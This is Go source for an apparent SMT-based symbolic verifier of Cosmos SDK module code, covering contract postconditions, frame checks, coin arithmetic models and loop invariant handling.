	// vacuity: requires must be satisfiable
	if len(ct.Requires) > 0 {
		o := &Obligation{Fn: e.curName, Kind: "cover", Label: "requires-satisfiable", PC: append([]string(nil), st.pc...), Goal: "true", Cover: true, decls: e.D}
		o.defs = append([]string(nil), st.defs...)
		e.obls = append(e.obls, o)
	}
	old := st.clone()
	e.oldState = old
	e.topVars = vars
	var outs []Out
	if ct.viaContract != nil {
		// refinement obligation of the lemma layer: the function is represented by its own contract (havoc of its
		// frame + its proved ensures) and the ensures of `ct` - the clauses of a ghost transition - must follow
		outs = e.applyContract(st, ct.viaContract, args, nil, nil)
	} else {
		outs = e.execFunc(st, fn, args, nil, 0)
	}
	if e.err != nil {
		res.Err = e.err
		return res
	}
	nReturn := 0
	if os.Getenv("VERIF_DEBUG") != "" {
		hist := map[string]int{}
		for _, o := range outs {
			hist[strings.Join(o.st.trace, ">")]++
		}
		if os.Getenv("VERIF_DEBUG") == "2" {
			for _, o := range outs {
				fmt.Fprintf(os.Stderr, "PATH %s\n", strings.Join(o.st.trace, ">"))
				for _, p := range o.st.pc {
					fmt.Fprintf(os.Stderr, "   %s\n", trunc(p, 150))
				}
				for _, c := range o.st.calls {
					fmt.Fprintf(os.Stderr, "   CALL %s (mark %d)\n", lastName(c.Name), o.st.loopMark)
				}
			}
		}
		for k, v := range hist {
			fmt.Fprintf(os.Stderr, "DEBUG %s: %d paths via %s\n", e.curName, v, k)
		}
	}
	for _, o := range outs {
		if o.st.dead {
			continue
		}
		if o.st.panics != "" {
			continue
		}
		nReturn++
		post := &cenv{e: e, pre: old, post: o.st, vars: map[string]Val{}, ct: ct, file: ct.File}
		for k, v := range vars {
			post.vars[k] = v
		}
		bindResults(post.vars, fn.Signature, o.res)
		for _, en := range ct.Ensures {
			if en.Names {
				continue
			}
			g := post.evalBool(en.Expr)
			if e.err != nil {
				if strings.Contains(e.err.Error(), "callres: no call of") {
					// the clause speaks about the result of a call this (reachable?) path never makes: it fails on
					// this path unless the path is infeasible - the goal is "false" under the path condition
					e.err = nil
					e.oblige(o.st, "post", en.Label, "false", en.Text+"  [the call whose result the clause refers to is not made on this path]", fn.Pos())
					continue
				}
				// a clause that cannot be evaluated on this path is reported as undecided, the others are still checked
				res.ClauseErrs = append(res.ClauseErrs, fmt.Sprintf("%s/post:%s: %v", e.curName, en.Label, e.err))
				e.err = nil
				continue
			}
			e.oblige(o.st, "post", en.Label, g, en.Text, fn.Pos())
		}
		// frame: components not named in modifies are unchanged
		e.frameObligations(o.st, old, ct, pre, args)
	}
	for _, cs := range ct.CallSites {
		if e.callSiteHits[cs.Clause.Label] == 0 {
			// the contract requires a call that no explored path makes: a failed obligation with its stable name
			// (an obligation that exists on the unchanged tree must not silently disappear)
			o := &Obligation{Fn: e.curName, Kind: "callsite", Label: cs.Clause.Label, Goal: "false", Detail: "at call of " + cs.Callee + ": " + cs.Clause.Text, Pos: e.pos(fn.Pos()), decls: e.D, env: e}
			o.Status, o.Solver, o.precomputed = "sat", "scan", true
			o.Model = fmt.Sprintf("no explored path of %s calls %s: the call the clause [%s] is about is absent", ct.Key, cs.Callee, cs.Clause.Label)
			e.obls = append(e.obls, o)
		}
	}
	// vacuity guard: every return site must be reachable by at least one satisfiable path
	{
		bySite := map[string][]*State{}
		var order []string
		for _, o := range outs {
			if o.st.dead || o.st.panics != "" {
				continue
			}
			k := strings.Join(o.st.trace, ">")
			if _, ok := bySite[k]; !ok {
				order = append(order, k)
			}
			bySite[k] = append(bySite[k], o.st)
		}
		sort.Strings(order)
		for i, k := range order {
			var alts []string
			for _, s := range bySite[k] {
				alts = append(alts, tAnd(append(append([]string(nil), s.defs...), s.pc...)...))
				if len(alts) >= 6 {
					break
				}
			}
			o := &Obligation{Fn: e.curName, Kind: "cover", Label: fmt.Sprintf("return#%d", i+1), PC: []string{tOr(alts...)}, Goal: "true", Cover: true, decls: e.D, env: e, Detail: "return site " + k + " reachable", Pos: k}
			e.obls = append(e.obls, o)
		}
	}
	if ct.DryRun {
		e.dryRunCover(fn, args, outs)
	}
	res.ClauseErrs = append(res.ClauseErrs, e.clauseErrs...)
	res.Paths = nReturn
	res.Obls = e.obls
	res.Trusted, res.Dropped, res.Inlined, res.Havocked, res.Notes = e.trusted, e.dropped, e.inlined, e.havocked, e.notes
	res.Bounded = e.bounded
	return res
}

func shortPkg(p string) string {
	p = strings.TrimPrefix(p, modPath+"/")
	return p
}

// frameObligations: every world component of every context parameter that is not listed in
// "modifies" must be unchanged on every normally returning path.
func (e *Env) frameObligations(st, old *State, ct *Contract, pre *cenv, args []Val) {
	mod := map[string]bool{}
	worldAll := false
	for _, m := range ct.Modifies {
		if call, ok := m.Expr.(*ast.CallExpr); ok {
			if id, ok := call.Fun.(*ast.Ident); ok {
				if id.Name == "world" {
					worldAll = true
				}
				mod[id.Name] = true
			}
		}
	}
	if worldAll {
		return
	}
	for _, a := range args {
		if a.K != kCtx {
			continue
		}
		for _, comp := range e.allComps() {
			if mod[comp] || comp == "events" {
				continue
			}
			W := st.worlds[a.World]
			if W == nil {
				continue
			}
			cur, touched := W.Comps[comp]
			if !touched {
				continue
			}
			was := e.readComp(old, a.World, comp)
			if cur == was {
				continue
			}
			e.oblige(st, "frame", comp+"-unchanged", tEq(cur, was), "component "+comp+" is not in the modifies clause", ct.Fn.Pos())
		}
	}
}

// verifyImpl checks a concrete method against the contract of the interface method it implements:
// the interface contract's ensures (and nopanic) must hold for the implementation's body.
func verifyImpl(p *Program, cx *Contracts, cfg *PropConfig, ict *Contract, fn *ssa.Function, implKey string) *FuncResult {
	// a synthetic contract: the interface clauses bound to this function, parameters renamed positionally
	own := cx.byFn[fn]
	syn := &Contract{Key: lastKey(implKey), PkgPath: ict.PkgPath, Fn: fn, Requires: ict.Requires, Ensures: ict.Ensures, Modifies: ict.Modifies, Lets: ict.Lets, LetOrder: ict.LetOrder,
		NoPanic: ict.NoPanic, Invariants: map[int][]Clause{}, Continues: map[int][]Clause{}, Unroll: map[int]int{}, File: ict.File, Params: ict.Params}
	if own != nil {
		syn.Invariants, syn.Continues, syn.Unroll = own.Invariants, own.Continues, own.Unroll
	}
	cx.byFn[fn] = syn
	defer func() {
		if own != nil {
			cx.byFn[fn] = own
		} else {
			delete(cx.byFn, fn)
		}
	}()
	syn.renameTo = ict.Params
	res := verifyFunc(p, cx, cfg, syn)
	res.Key = implKey + " against " + ict.Key
	for _, o := range res.Obls {
		o.Fn = implKey
		if o.Kind == "post" {
			o.Kind = "iface"
		}
	}
	return res
}

func lastKey(k string) string {
	if i := strings.Index(k, ".("); i >= 0 {
		return k[i+1:]
	}
	return k
}

// dryRunCover implements tier (ii) of C15 for a function reached from a governance proposal handler: a panic site is
// covered by the submission dry-run when (a) its guard mentions only values derived from the function's non-context,
// non-store parameters (the proposal content) and constants, and (b) the site is evaluated on every path of the
// function that can return a nil error.  The SDK runs the same handler on the same content at submission; a panic
// there rejects the proposal, so the guard holds for every proposal that can reach EndBlock.
func (e *Env) dryRunCover(fn *ssa.Function, args []Val, outs []Out) {
	// (a) symbols the proposal content is made of
	content := map[string]bool{}
	for i, prm := range fn.Params {
		t := prm.Type().String()
		if isCtxType(prm.Type()) || strings.Contains(t, "KVStore") || strings.Contains(t, "codec.") {
			continue
		}
		if i < len(args) {
			for k := range identSet(e.term(e.oldState, args[i])) {
				content[k] = true
			}
		}
	}
	// (b) the paths that may return a nil error: decided by the solver (auxiliary cover queries), so that an
	// error built by a wrapper (nil iff the wrapped error is nil) is not mistaken for a success path
	var nilPaths []*Obligation
	for i, o := range outs {
		if o.st.dead || o.st.panics != "" {
			continue
		}
		res := o.res
		if res.K == kTuple && len(res.Elems) > 0 {
			res = res.Elems[len(res.Elems)-1]
		}
		if res.K == kIface {
			continue // a concrete (non-nil) error value
		}
		pc := append([]string(nil), o.st.pc...)
		if res.K == kTerm && res.Sort == sIface {
			if tEq(res.T, "nilI") == "false" {
				continue
			}
			pc = append(pc, tEq(res.T, "nilI"))
		}
		ao := &Obligation{Fn: e.curName, Kind: "aux", Label: fmt.Sprintf("nil-return-path#%d", i+1), PC: pc, Goal: "true", Cover: true, decls: e.D, env: e, Detail: "auxiliary query for the dry-run cover: can this path return a nil error?"}
		ao.defs = append([]string(nil), o.st.defs...)
		ao.nilPathSites = o.st.sites
		e.obls = append(e.obls, ao)
		nilPaths = append(nilPaths, ao)
	}
	for _, ob := range e.obls {
		if ob.Kind != "nopanic" || ob.Site == "" {
			continue
		}
		ob.dryStateFree = true
		for k := range identSet(ob.Goal) {
			if _, isConst := e.D.consts[k]; !isConst {
				continue
			}
			if content[k] || strings.HasPrefix(k, "lit") || strings.HasPrefix(k, "g_") || k == "nilStr" || k == "emptyStr" || k == "nilI" {
				continue
			}
			ob.dryStateFree, ob.dryCulprit = false, k
			break
		}
		ob.dryPaths = nilPaths
		ob.dryFn = fn.Name()
	}
}

// finalizeDryRun decides, after the solvers ran, which failing panic-site obligations are covered by the dry-run.
func finalizeDryRun(all []*Obligation) {
	for _, ob := range all {
		if ob.Kind != "nopanic" || ob.dryFn == "" || ob.Status != "sat" {
			continue
		}
		if !ob.dryStateFree {
			ob.Detail += " [not covered by the dry-run: the guard depends on " + ob.dryCulprit + ", which is not derived from the proposal content]"
			continue
		}
		onAll, n := true, 0
		for _, p := range ob.dryPaths {
			if p.Status == "unsat" {
				continue // this path cannot return nil
			}
			n++
			if !p.nilPathSites[ob.Site] {
				onAll = false
			}
		}
		if onAll && n > 0 {
			ob.Covered = "panic site covered by the governance submission dry-run: its guard depends on the proposal content only and the site lies on every nil-returning path of " + ob.dryFn
		} else {
			ob.Detail += " [not covered by the dry-run: a nil-returning path does not pass this site]"
		}
	}
}
