package main

import (
	"fmt"
	"go/token"
	"go/types"

	"golang.org/x/tools/go/ssa"
)

// Models of cosmos-sdk math types: sdk.Int / sdk.Dec / big.Int are mathematical integers
// (the 256-bit overflow panic of sdk.Int is excluded by a listed assumption);
// sdk.Coins values are reasoned about through amountOf(coins, denom).

const sdkInt = "(github.com/cosmos/cosmos-sdk/types.Int)."
const sdkCoin = "(github.com/cosmos/cosmos-sdk/types.Coin)."
const sdkCoins = "(github.com/cosmos/cosmos-sdk/types.Coins)."

func intVal(t types.Type, term string) Val { return Val{K: kTerm, Typ: t, Sort: sInt, T: term} }

func (e *Env) coinField(st *State, coin Val, name string) Val {
	if coin.K == kPtr {
		coin = e.load(st, coin.Ptr)
	}
	stt, ok := coin.Typ.Underlying().(*types.Struct)
	if !ok {
		e.fail("coinField on %s", coin.Typ)
		return coin
	}
	for i := 0; i < stt.NumFields(); i++ {
		if stt.Field(i).Name() == name {
			return e.field(st, coin, i)
		}
	}
	e.fail("no field %s in %s", name, coin.Typ)
	return coin
}

// amountOf(coins, denom): the amount of denom in a Coins value (0 if absent).
func (e *Env) amountOf(st *State, coins Val, denom string) string {
	s := e.sortOfT(coins.Typ)
	return e.D.uf("spec_amountOf", []string{s, sStr}, sInt, e.term(st, coins), denom)
}

func init() {
	cmp := map[string]string{"LT": "<", "LTE": "<=", "GT": ">", "GTE": ">=", "Equal": "="}
	for name, op := range cmp {
		op := op
		intrinsicsByName[sdkInt+name] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
			return one(st, boolVal(tApp(op, e.term(st, args[0]), e.term(st, args[1]))))
		}
	}
	arith := map[string]string{"Add": "+", "Sub": "-", "Mul": "*"}
	for name, op := range arith {
		op := op
		intrinsicsByName[sdkInt+name] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
			return one(st, intVal(rt, tApp(op, e.term(st, args[0]), e.term(st, args[1]))))
		}
	}
	intrinsicsByName[sdkInt+"IsZero"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(tEq(e.term(st, args[0]), "0")))
	}
	intrinsicsByName[sdkInt+"IsNegative"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(tApp("<", e.term(st, args[0]), "0")))
	}
	intrinsicsByName[sdkInt+"IsPositive"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(tApp(">", e.term(st, args[0]), "0")))
	}
	intrinsicsByName[sdkInt+"IsNil"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// a validated sdk.Int is never nil (listed assumption with the math-int model)
		return one(st, boolVal("false"))
	}
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.ZeroInt"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, intVal(rt, "0"))
	}
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.NewInt"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		t := e.term(st, args[0])
		if x, _, ok := bvLitVal(t); ok {
			return one(st, intVal(rt, intLit(int64(x))))
		}
		// int64 -> Int
		return one(st, intVal(rt, fmt.Sprintf("(ite (bvslt %s (_ bv0 64)) (- (bv2nat (bvneg %s))) (bv2nat %s))", t, t, t)))
	}
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.NewIntFromUint64"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, intVal(rt, tApp("bv2nat", e.term(st, args[0]))))
	}
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.NewCoin"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// NewCoin(denom, amount) = Coin{denom, amount}; it panics on an invalid denomination or a negative amount (not modelled: noted)
		e.notes["sdk.NewCoin: panic on invalid denom / negative amount not modelled"]++
		stt, ok := rt.Underlying().(*types.Struct)
		if !ok {
			return e.havocCall(st, "sdk.NewCoin", args, rt)
		}
		v := e.zero(st, rt)
		for i := 0; i < stt.NumFields(); i++ {
			switch stt.Field(i).Name() {
			case "Denom":
				v = e.setField(st, v, i, args[0])
			case "Amount":
				v = e.setField(st, v, i, args[1])
			}
		}
		return one(st, v)
	}
	// ---- Coin ----
	intrinsicsByName[sdkCoin+"GetDenom"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.coinField(st, args[0], "Denom"))
	}
	intrinsicsByName["(*github.com/cosmos/cosmos-sdk/types.Coin).GetDenom"] = intrinsicsByName[sdkCoin+"GetDenom"]
	intrinsicsByName[sdkCoin+"IsZero"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(tEq(e.term(st, e.coinField(st, args[0], "Amount")), "0")))
	}
	intrinsicsByName[sdkCoin+"IsNegative"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(tApp("<", e.term(st, e.coinField(st, args[0], "Amount")), "0")))
	}
	intrinsicsByName[sdkCoin+"IsPositive"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(tApp(">", e.term(st, e.coinField(st, args[0], "Amount")), "0")))
	}
	intrinsicsByName[sdkInt+"BigInt"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// a fresh *big.Int holding the same mathematical value (a nil sdk.Int, which yields nil, is not modelled)
		cell := e.newCell(st, Val{K: kTerm, Typ: mathIntType(), Sort: sInt, T: e.term(st, args[0])})
		return one(st, Val{K: kPtr, Typ: rt, Ptr: &Pointer{Cell: cell}})
	}
	// Coin.Add / Coin.IsEqual panic when the denominations differ (a safety condition); otherwise arithmetic on amounts
	intrinsicsByName[sdkCoin+"Add"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		da, db := e.term(st, e.coinField(st, args[0], "Denom")), e.term(st, e.coinField(st, args[1], "Denom"))
		p := token.NoPos
		if c != nil {
			p = c.Pos()
		}
		e.safety(st, tEq(da, db), "coin-denom-mismatch", p)
		stt, ok := rt.Underlying().(*types.Struct)
		if !ok {
			return e.havocCall(st, "sdk.Coin.Add", args, rt)
		}
		v := e.zero(st, rt)
		sum := tApp("+", e.term(st, e.coinField(st, args[0], "Amount")), e.term(st, e.coinField(st, args[1], "Amount")))
		for i := 0; i < stt.NumFields(); i++ {
			switch stt.Field(i).Name() {
			case "Denom":
				v = e.setField(st, v, i, e.coinField(st, args[0], "Denom"))
			case "Amount":
				v = e.setField(st, v, i, intVal(stt.Field(i).Type(), sum))
			}
		}
		return one(st, v)
	}
	intrinsicsByName[sdkCoin+"IsEqual"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		da, db := e.term(st, e.coinField(st, args[0], "Denom")), e.term(st, e.coinField(st, args[1], "Denom"))
		p := token.NoPos
		if c != nil {
			p = c.Pos()
		}
		e.safety(st, tEq(da, db), "coin-denom-mismatch", p)
		return one(st, boolVal(tEq(e.term(st, e.coinField(st, args[0], "Amount")), e.term(st, e.coinField(st, args[1], "Amount")))))
	}
	// ---- Coins (through amountOf) ----
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.NewCoins"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.trusted["sdk.NewCoins / Coins.Add / Coins.IsZero: Add merges by denomination (amountOf adds up), NewCoins() is empty, IsZero means every amount is 0 (for non-negative coins)"]++
		if len(args) == 1 && args[0].K == kArr && len(args[0].Elems) == 0 {
			r := e.symbolic(st, rt, "coins")
			e.D.n++
			dv := fmt.Sprintf("d!q%d", e.D.n)
			st.define(fmt.Sprintf("(forall ((%s Str)) (! (= %s 0) :pattern (%s)))", dv, e.amountOf(st, r, dv), e.amountOf(st, r, dv)))
			return one(st, r)
		}
		return e.havocCall(st, "sdk.NewCoins(non-empty)", args, rt)
	}
	intrinsicsByName[sdkCoins+"Add"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.trusted["sdk.NewCoins / Coins.Add / Coins.IsZero: Add merges by denomination (amountOf adds up), NewCoins() is empty, IsZero means every amount is 0 (for non-negative coins)"]++
		if args[1].K != kArr {
			return e.havocCall(st, "Coins.Add(symbolic list)", args, rt)
		}
		cur := args[0]
		for _, coin := range args[1].Elems {
			r := e.symbolic(st, rt, "coins")
			dn := e.term(st, e.coinField(st, coin, "Denom"))
			am := e.term(st, e.coinField(st, coin, "Amount"))
			e.D.n++
			dv := fmt.Sprintf("d!q%d", e.D.n)
			st.define(fmt.Sprintf("(forall ((%s Str)) (! (= %s (+ %s (ite (= %s %s) %s 0))) :pattern (%s)))", dv, e.amountOf(st, r, dv), e.amountOf(st, cur, dv), dv, dn, am, e.amountOf(st, r, dv)))
			cur = r
		}
		return one(st, cur)
	}
	intrinsicsByName[sdkCoins+"IsZero"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.D.n++
		dv := fmt.Sprintf("d!q%d", e.D.n)
		b := e.D.fresh("coins_iszero", sBool)
		st.define(tEq(b, fmt.Sprintf("(forall ((%s Str)) (= %s 0))", dv, e.amountOf(st, args[0], dv))))
		return one(st, boolVal(b))
	}
}
