package main

import (
	"fmt"
	"go/ast"
	"go/constant"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type loop struct {
	header  *ssa.BasicBlock
	blocks  map[*ssa.BasicBlock]bool
	ordinal int // 1-based, in source order of headers
}

type loopInfoT struct {
	headers map[*ssa.BasicBlock]*loop
}

var loopCache = map[*ssa.Function]*loopInfoT{}

func (e *Env) loopInfo(fn *ssa.Function) *loopInfoT {
	if li, ok := loopCache[fn]; ok {
		return li
	}
	li := &loopInfoT{headers: map[*ssa.BasicBlock]*loop{}}
	for _, b := range fn.Blocks {
		for _, s := range b.Succs {
			if s.Dominates(b) {
				// back edge b -> s
				l := li.headers[s]
				if l == nil {
					l = &loop{header: s, blocks: map[*ssa.BasicBlock]bool{s: true}}
					li.headers[s] = l
				}
				// natural loop: all blocks that reach b without passing s
				var stack []*ssa.BasicBlock
				if !l.blocks[b] {
					l.blocks[b] = true
					stack = append(stack, b)
				}
				for len(stack) > 0 {
					x := stack[len(stack)-1]
					stack = stack[:len(stack)-1]
					for _, p := range x.Preds {
						if !l.blocks[p] {
							l.blocks[p] = true
							stack = append(stack, p)
						}
					}
				}
			}
		}
	}
	// ordinals by block index (source order)
	n := 0
	for _, b := range fn.Blocks {
		if l := li.headers[b]; l != nil {
			n++
			l.ordinal = n
		}
	}
	loopCache[fn] = li
	return li
}

// enterLoop handles arrival at a loop header.
func (e *Env) enterLoop(fr *Frame, st *State, b, prev *ssa.BasicBlock, l *loop) []Out {
	ct := e.Cx.forFunc(fr.fn)
	var invs, conts []Clause
	unroll := 0
	if ct != nil {
		invs = ct.Invariants[l.ordinal]
		conts = ct.Continues[l.ordinal]
		unroll = ct.Unroll[l.ordinal]
	}
	if unroll > 0 {
		return e.unrollLoop(fr, st, b, prev, l, unroll)
	}
	fromBack := prev != nil && l.blocks[prev]
	e.assignPhis(fr, st, b, prev)
	if fromBack {
		if !fr.inLoop[b] {
			e.fail("back edge to loop header without entry in %s", fr.fn)
			return nil
		}
		// clauses that must hold whenever an iteration completes and the loop continues
		for _, cl := range conts {
			if fr.depth > 0 {
				// the clause is proved where the function is verified on its own; inside a caller its call-log
				// vocabulary (ncalls / callarg of the callee's own calls) has no meaning
				break
			}
			g := e.evalInvariant(st, fr, ct, cl)
			e.oblige(st, "loop-continue", fmt.Sprintf("loop%d:%s", l.ordinal, cl.Label), g, cl.Text, b.Instrs[0].Pos())
		}
		// frame of the loop: components outside the function's modifies clause are unchanged by an iteration
		for key, was := range fr.loopFrame {
			if !strings.HasPrefix(key, fmt.Sprintf("%p|", b)) {
				continue
			}
			parts := strings.SplitN(key, "|", 3)
			var w int
			fmt.Sscanf(parts[1], "%d", &w)
			cur := e.readComp(st, w, parts[2])
			if cur != was {
				e.oblige(st, "frame", fmt.Sprintf("loop%d:%s-unchanged", l.ordinal, parts[2]), tEq(cur, was), "loop iteration changes a component outside the modifies clause", b.Instrs[0].Pos())
			}
		}
		// inductive step
		for _, inv := range invs {
			g := e.evalInvariant(st, fr, ct, inv)
			e.oblige(st, "inv-step", fmt.Sprintf("loop%d:%s", l.ordinal, inv.Label), g, inv.Text, b.Instrs[0].Pos())
		}
		return nil
	}
	// entry: check invariants on entry values
	for _, inv := range invs {
		g := e.evalInvariant(st, fr, ct, inv)
		e.oblige(st, "inv-entry", fmt.Sprintf("loop%d:%s", l.ordinal, inv.Label), g, inv.Text, b.Instrs[0].Pos())
	}
	// havoc everything the loop may modify
	e.havocLoop(fr, st, l, b)
	fr.inLoop[b] = true
	if fr.depth == 0 {
		st.loopMark = len(st.calls)
		// callee names that may be called (any number of times) inside this loop: only for those the call log is
		// cut at the loop entry; calls of other names are counted over the whole path
		names := map[string]bool{}
		for k := range st.loopNames {
			names[k] = true
		}
		seen := map[*ssa.Function]bool{}
		for blk := range l.blocks {
			collectCallNames(fr.fn, blk.Instrs, names, seen, 0)
		}
		st.loopNames = names
	}
	for _, inv := range invs {
		g := e.evalInvariant(st, fr, ct, inv)
		st.assume(g)
	}
	e.autoRangeInvariant(fr, st, b, l)
	if ct != nil {
		if fk := ct.ForKeys[l.ordinal]; fk != nil {
			e.applyForKey(fr, st, ct, fk)
			if e.err != nil {
				return nil
			}
		}
	}
	return e.runFrom(fr, st, b, 0, prev)
}

// unrollLoop executes the loop body up to k times (bounded; obligations are labelled bounded).
func (e *Env) unrollLoop(fr *Frame, st *State, b, prev *ssa.BasicBlock, l *loop, k int) []Out {
	e.bounded = true
	cnt := 0
	for h, n := range frUnroll(fr) {
		if h == b {
			cnt = n
		}
	}
	fromBack := prev != nil && l.blocks[prev]
	if fromBack {
		cnt++
		if cnt > k {
			// bound reached: path is cut (assumed infeasible; bounded)
			e.notes[fmt.Sprintf("loop %d of %s cut after %d iterations (bounded)", l.ordinal, fr.fn.Name(), k)]++
			return nil
		}
	} else {
		cnt = 0
	}
	setFrUnroll(fr, b, cnt)
	e.assignPhis(fr, st, b, prev)
	return e.runFrom(fr, st, b, 0, prev)
}

func frUnroll(fr *Frame) map[*ssa.BasicBlock]int { return fr.unroll }
func setFrUnroll(fr *Frame, b *ssa.BasicBlock, n int) {
	if fr.unroll == nil {
		fr.unroll = map[*ssa.BasicBlock]int{}
	}
	fr.unroll[b] = n
}

// havocLoop forgets every value the loop body may change.
func (e *Env) havocLoop(fr *Frame, st *State, l *loop, hdr *ssa.BasicBlock) {
	// 1. header phis
	for _, ins := range l.header.Instrs {
		if ph, ok := ins.(*ssa.Phi); ok {
			old := fr.regs[ph]
			if old.K == kIter {
				continue
			}
			nv := e.symbolic(st, ph.Type(), "loop_"+ph.Comment)
			if old.K == kPtr && nv.K == kPtr {
				// pointer phi: keep pointing to a fresh cell
			}
			fr.regs[ph] = nv
		}
	}
	// 2. cells stored to inside the loop; 3. things reachable from calls in the loop
	hasCall := false
	havocCells := map[int]bool{}
	for b := range l.blocks {
		for _, ins := range b.Instrs {
			switch x := ins.(type) {
			case *ssa.Store:
				if id, ok := e.baseCell(fr, x.Addr); ok {
					havocCells[id] = true
				}
			case *ssa.MapUpdate:
				if v, ok := fr.regs[x.Map]; ok && v.K == kTerm {
					fr.regs[x.Map] = e.symbolic(st, v.Typ, "loop_map")
				}
				// a map that lives in a struct field / variable and is loaded inside the loop body (m := s.f; m[k] = v):
				// maps are references, so the update is visible through the field: havoc exactly that field
				if u, ok := x.Map.(*ssa.UnOp); ok && u.Op == token.MUL {
					var path []PathEl
					a := u.X
					okPath := true
					for i := 0; i < 20; i++ {
						fa, isFA := a.(*ssa.FieldAddr)
						if !isFA {
							break
						}
						path = append([]PathEl{{Field: fa.Field, Idx: ""}}, path...)
						a = fa.X
					}
					if _, isIA := a.(*ssa.IndexAddr); isIA {
						okPath = false
					}
					if bv, ok := fr.regs[a]; ok && bv.K == kPtr && okPath {
						full := append(append([]PathEl(nil), bv.Ptr.Path...), path...)
						root := st.cells[bv.Ptr.Cell]
						if root.Typ != nil {
							st.cells[bv.Ptr.Cell] = e.update(st, root, full, e.symbolic(st, x.Map.Type(), "loop_map"))
						}
					} else if id, ok := e.baseCell(fr, u.X); ok {
						havocCells[id] = true
					}
				}
			case ssa.CallInstruction:
				c := x.Common()
				if droppedName(callName(c)) {
					continue
				}
				hasCall = true
				for _, a := range c.Args {
					// an argument computed inside the loop (interface conversion, field / element address, slice of
					// a local array) has no value yet at the header: follow it back to the value it is built from
					for _, root := range argRoots(a) {
						if v, ok := fr.regs[root]; ok {
							e.collectHavoc(st, v, havocCells, 0)
						}
					}
				}
				if !c.IsInvoke() {
					if v, ok := fr.regs[c.Value]; ok {
						e.collectHavoc(st, v, havocCells, 0)
					}
				} else if v, ok := fr.regs[c.Value]; ok {
					e.collectHavoc(st, v, havocCells, 0)
				}
			}
		}
	}
	for id := range havocCells {
		if id < 0 {
			continue // globals are immutable
		}
		cur := st.cells[id]
		if cur.Typ == nil {
			continue
		}
		st.cells[id] = e.symbolicLike(st, cur)
	}
	if hasCall {
		// worlds reachable from any ctx value in the frame
		seen := map[int]bool{}
		for _, v := range fr.regs {
			if v.K == kCtx && !seen[v.World] {
				seen[v.World] = true
				if e.loopTouchesWorld(fr, l) {
					mod, all := e.topModifies()
					for _, comp := range e.allComps() {
						if all || mod[comp] || st.worlds[v.World].Parent >= 0 {
							e.havocComp(st, v.World, comp, "loop")
						} else {
							if fr.loopFrame == nil {
								fr.loopFrame = map[string]string{}
							}
							fr.loopFrame[fmt.Sprintf("%p|%d|%s", hdr, v.World, comp)] = e.readComp(st, v.World, comp)
						}
					}
				}
			}
		}
	}
	// iterators: visited set / position unknown at an arbitrary iteration
	for k, v := range fr.regs {
		if v.K == kIter && v.Iter != nil {
			nit := *v.Iter
			if nit.Over != nil {
				if mp, ok := nit.Over.Typ.Underlying().(*types.Map); ok {
					nit.Visited = e.D.fresh("visited", fmt.Sprintf("(Array %s Bool)", e.sortOfT(mp.Key())))
				}
			}
			if nit.Store != nil {
				e.iterHavoc(st, &nit)
			}
			fr.regs[k] = Val{K: kIter, Typ: v.Typ, Iter: &nit}
		}
	}
}

// topModifies: components named in the modifies clauses of the function under verification.
func (e *Env) topModifies() (map[string]bool, bool) {
	mod := map[string]bool{}
	if e.topFn == nil {
		return mod, true
	}
	ct := e.Cx.forFunc(e.topFn)
	if ct == nil {
		return mod, true
	}
	for _, m := range ct.Modifies {
		if call, ok := m.Expr.(*ast.CallExpr); ok {
			if id, ok := call.Fun.(*ast.Ident); ok {
				if id.Name == "world" {
					return mod, true
				}
				if isComp(e, id.Name) {
					mod[id.Name] = true
					continue
				}
			}
			// a store-handle expression: its component is unknown statically here
			return mod, true
		}
	}
	return mod, false
}

// loopTouchesWorld: does the loop contain a call that receives a context or a store?
func (e *Env) loopTouchesWorld(fr *Frame, l *loop) bool {
	for b := range l.blocks {
		for _, ins := range b.Instrs {
			c, ok := ins.(ssa.CallInstruction)
			if !ok {
				continue
			}
			cc := c.Common()
			if droppedName(callName(cc)) {
				continue
			}
			vals := append([]ssa.Value{}, cc.Args...)
			vals = append(vals, cc.Value)
			for _, a := range vals {
				if a == nil {
					continue
				}
				if v, ok := fr.regs[a]; ok {
					if v.K == kCtx || v.K == kStore || v.K == kClosure || (v.K == kIface && v.Inner != nil && (v.Inner.K == kStore)) {
						return true
					}
					if v.K == kTerm && e.sortOfT(v.Typ) != sStr && !isBasic(v.Typ) {
						// struct values (keepers) may carry store keys: their methods take ctx explicitly, handled above
					}
				} else if isCtxType(a.Type()) {
					return true
				}
			}
		}
	}
	return false
}

func isBasic(t types.Type) bool {
	_, ok := t.Underlying().(*types.Basic)
	return ok
}

